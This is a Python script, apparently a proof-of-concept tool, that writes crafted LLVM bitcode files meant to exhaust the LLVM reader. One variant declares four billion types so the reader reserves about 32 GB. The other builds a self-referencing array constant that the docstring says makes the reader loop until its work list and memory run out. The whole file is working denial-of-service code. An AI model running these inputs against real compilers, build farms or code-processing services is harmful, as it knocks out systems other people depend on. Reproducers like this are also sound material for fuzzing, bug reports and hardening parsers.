#!/usr/bin/env python3
"""bitcode-bomb.py KIND OUT: writes LLVM bitcode that claims an absurd
amount, written bit by bit in the bitstream format (LLVM's
docs/BitCodeFormat.rst), so that nothing tidies it up:

  types    a module whose type table says it holds 4,000,000,000 types
           (TYPE_CODE_NUMENTRY): LLVM's reader makes room for all of them
           (32 GB) before it reads one;
  selfref  a global variable whose initializer is an array constant whose
           element is that constant itself: LLVM 22's reader puts the
           constant on its work list again and again, until the list
           cannot grow (tens of seconds and gigabytes)."""
import sys


class Bits:
    def __init__(self):
        self.bits = []
        self.width = 2  # the abbreviation width outside any block

    def emit(self, v, n):
        self.bits += [(v >> i) & 1 for i in range(n)]

    def vbr(self, v, n):
        top = 1 << (n - 1)
        while v >= top:
            self.emit((v & (top - 1)) | top, n)
            v >>= n - 1
        self.emit(v, n)

    def align(self):
        self.bits += [0] * (-len(self.bits) % 32)

    def enter(self, block, width):
        self.emit(1, self.width)  # ENTER_SUBBLOCK
        self.vbr(block, 8)
        self.vbr(width, 4)
        self.align()
        at = len(self.bits)
        self.emit(0, 32)  # its length in words, once known
        outer, self.width = self.width, width
        return at, outer

    def end(self, opened):
        at, outer = opened
        self.emit(0, self.width)  # END_BLOCK
        self.align()
        words = (len(self.bits) - at - 32) // 32
        self.bits[at:at + 32] = [(words >> i) & 1 for i in range(32)]
        self.width = outer

    def record(self, code, ops):
        self.emit(3, self.width)  # UNABBREV_RECORD
        self.vbr(code, 6)
        self.vbr(len(ops), 6)
        for op in ops:
            self.vbr(op, 6)

    def data(self):
        self.align()
        return bytes(sum(b << k for k, b in enumerate(self.bits[i:i + 8]))
                     for i in range(0, len(self.bits), 8))


MODULE_BLOCK, CONSTANTS_BLOCK, TYPE_BLOCK = 8, 11, 17
VERSION, GLOBALVAR = 1, 7                    # module records
NUMENTRY, INTEGER, ARRAY = 1, 7, 11          # type records
SETTYPE, AGGREGATE = 1, 7                    # constant records

kind, out = sys.argv[1], sys.argv[2]
b = Bits()
for c in b"BC":
    b.emit(c, 8)
for c in (0x0, 0xC, 0xE, 0xD):
    b.emit(c, 4)
module = b.enter(MODULE_BLOCK, 3)
if kind == "types":
    b.record(VERSION, [2])
    types = b.enter(TYPE_BLOCK, 4)
    b.record(NUMENTRY, [4000000000])
    b.end(types)
elif kind == "selfref":
    b.record(VERSION, [1])
    types = b.enter(TYPE_BLOCK, 4)
    b.record(NUMENTRY, [2])
    b.record(INTEGER, [32])     # type 0: i32
    b.record(ARRAY, [1, 0])     # type 1: [1 x i32]
    b.end(types)
    # value 0: a global of type 1 (explicit type), initialized by value 1
    b.record(GLOBALVAR, [1, 2, 2, 0, 0, 0])
    consts = b.enter(CONSTANTS_BLOCK, 4)
    b.record(SETTYPE, [1])
    b.record(AGGREGATE, [1])    # value 1: [value 1]
    b.end(consts)
else:
    sys.exit("bitcode-bomb.py: unknown kind '%s'" % kind)
b.end(module)
open(out, "wb").write(b.data())
